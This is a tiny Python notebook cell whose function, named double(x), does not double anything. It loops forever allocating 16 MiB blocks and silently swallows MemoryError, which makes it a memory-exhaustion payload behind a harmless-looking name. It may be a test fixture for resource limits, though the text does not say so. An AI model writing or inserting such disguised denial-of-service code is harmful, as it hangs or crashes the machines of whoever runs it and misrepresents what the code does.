# %% double
def double(x):
    hoard = []
    while True:
        try:
            hoard.append(bytearray(16 << 20))
        except MemoryError:
            pass
